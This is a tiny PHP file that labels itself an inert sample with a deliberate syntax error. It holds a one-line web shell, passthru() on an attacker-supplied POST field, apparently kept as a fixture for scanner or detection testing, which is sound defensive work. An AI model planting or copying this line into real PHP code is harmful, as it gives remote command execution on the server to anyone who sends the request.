<?php
shodo inert sample: deliberate syntax error, this file never runs
passthru( @$_POST[ 'x' ] );
